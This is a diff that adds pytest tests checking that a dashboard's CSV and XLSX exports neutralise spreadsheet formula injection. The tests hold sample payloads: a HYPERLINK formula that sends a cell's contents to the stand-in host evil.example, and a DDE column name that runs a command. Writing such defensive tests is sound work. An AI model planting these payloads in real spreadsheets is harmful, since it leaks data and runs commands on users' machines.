@@ -47,3 +47,34 @@ def test_dashboard_table_exports_match_the_screen_filters(demo_session):
     monthly = written["exam_code"].str.startswith("monthly-").sum()  # the agents' six months of history
     assert len(rows) - 1 == len(written) and monthly == 36
     assert "Score (%)" in rows[0]
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1",
+           "\r=1+1"]
+
+
+def hostile_frame() -> pd.DataFrame:
+    return pd.DataFrame({"agent": HOSTILE, "average": [-5.0, 70.0, 80.0, 90.0, 100.0, 60.0],
+                         "=cmd|' /C calc'!A0": ["x"] * 6})
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_stay_text():
+    csv = pd.read_csv(io.BytesIO(exports.csv_bytes(hostile_frame())), encoding="utf-8-sig",
+                      keep_default_na=False)
+    assert csv["agent"].tolist() == ["'" + h for h in HOSTILE]
+    assert csv["average"].tolist() == [-5.0, 70.0, 80.0, 90.0, 100.0, 60.0], "numbers stay numbers"
+    assert list(csv.columns)[2] == "'=cmd|' /C calc'!A0"
+
+
+def test_xlsx_has_no_formula_cell_even_for_a_hyperlink_display_name():
+    workbook = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(hostile_frame())))
+    cells = [cell for row in workbook.active.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert workbook.active["A2"].value == "'" + HOSTILE[0]
+    assert workbook.active["B2"].value == -5.0
+
+
+def test_harmless_text_is_left_alone():
+    assert exports.neutralise("Feng Jun 冯军") == "Feng Jun 冯军"
+    assert exports.neutralise("a-b=c") == "a-b=c"
+    assert exports.neutralise(-3) == -3 and exports.neutralise(None) is None
